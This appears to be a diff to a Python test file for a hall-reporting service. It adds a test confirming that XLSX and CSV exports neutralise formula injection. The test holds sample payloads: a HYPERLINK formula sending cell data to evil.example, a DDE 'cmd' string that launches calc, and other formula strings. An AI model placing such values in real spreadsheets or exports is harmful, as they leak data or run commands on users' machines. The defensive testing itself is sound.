@@ -115,8 +115,10 @@ def test_a_rolled_up_day_reads_the_same_as_the_live_day(ctx, hall, month):
     live = reports.report(ctx, period="day", on=day, group="staff")
     assert raw(ctx, "SELECT count(*) FROM report_days")[0][0] == 0
     ctx.clock = ManualClock(datetime(2026, 11, 23, 2, tzinfo=UTC))
-    rolled = reports.report(ctx, period="day", on=day, group="staff")
+    assert reports.roll_up(ctx, hall["id"], date(2026, 10, 12), date(2026, 10, 12)) == [
+        date(2026, 10, 12)]
     assert raw(ctx, "SELECT count(*) FROM report_days")[0][0] == 1
+    rolled = reports.report(ctx, period="day", on=day, group="staff")
     assert rolled["rows"] == live["rows"] or _same_but_time(rolled, live)
 
 
@@ -174,3 +176,47 @@ def test_xlsx_and_csv_hold_the_same_numbers_as_the_report(ctx, hall, month):
     assert int(line["Tickets issued"]) == row["issued"]
     assert float(line["Service level %"]) == round(row["service_level"] * 100, 1)
     assert rows[-1][0] == "Total" and int(rows[-1][1]) == data["total"]["issued"]
+
+
+def test_exports_neutralise_formulas(ctx, hall):
+    """Names someone typed that begin like a formula come out of the XLSX and the CSV as
+    text: openpyxl reads a string (not a formula) and the CSV cell starts with '."""
+    import csv
+    import io
+
+    from openpyxl import load_workbook
+    from sqlalchemy import update
+
+    from hall.services.supervision import exports
+    from hall.store.models import Hall, Service, Staff
+    from tests.integration.conftest import finished_visit
+
+    evil = {"hj": '=HYPERLINK("http://evil.example/?"&A1,"户籍")', "li": "@SUM(1+1)",
+            "hall": "+cmd|' /C calc'!A0"}
+    with ctx.engine.begin() as conn:
+        conn.execute(update(Service).where(Service.code == "hj").values(name=evil["hj"]))
+        conn.execute(update(Staff).where(Staff.login == "li").values(name=evil["li"]))
+        conn.execute(update(Hall).values(name=evil["hall"]))
+        conn.execute(update(Service).where(Service.code == "sfz").values(name="-2+3"))
+        conn.execute(update(Service).where(Service.code == "ss").values(name="\t=1+1"))
+    ctx.cache.clear()
+    finished_visit(ctx, hall)
+    finished_visit(ctx, hall, service="sfz")
+    finished_visit(ctx, hall, 3, service="ss")
+    for group, names in (("service", [evil["hj"], "-2+3", "\t=1+1"]), ("staff", [evil["li"]])):
+        data = reports.report(ctx, period="day", group=group)
+        assert set(names) <= {row["name"] for row in data["rows"]}
+        book = load_workbook(io.BytesIO(exports.to_xlsx(data, exports.translator("en"))))
+        sheet = book.worksheets[0]
+        assert sheet["A1"].data_type == "s" and sheet["A1"].value.startswith("'+cmd")
+        cells = [row[0] for row in sheet.iter_rows(min_row=3)]
+        assert all(c.data_type == "s" for c in cells)  # no "f": not one formula
+        assert not any(c.data_type == "f" for row in sheet.iter_rows() for c in row)
+        xlsx_names = {c.value for c in cells}
+        rows = list(csv.reader(io.StringIO(
+            exports.to_csv(data, exports.translator("en")).lstrip("\ufeff"))))
+        csv_names = {row[0] for row in rows[1:]}
+        for name in names:
+            assert "'" + name in xlsx_names and name not in xlsx_names
+            assert "'" + name in csv_names and name not in csv_names
+        assert "Total" in csv_names  # plain text stays as it is
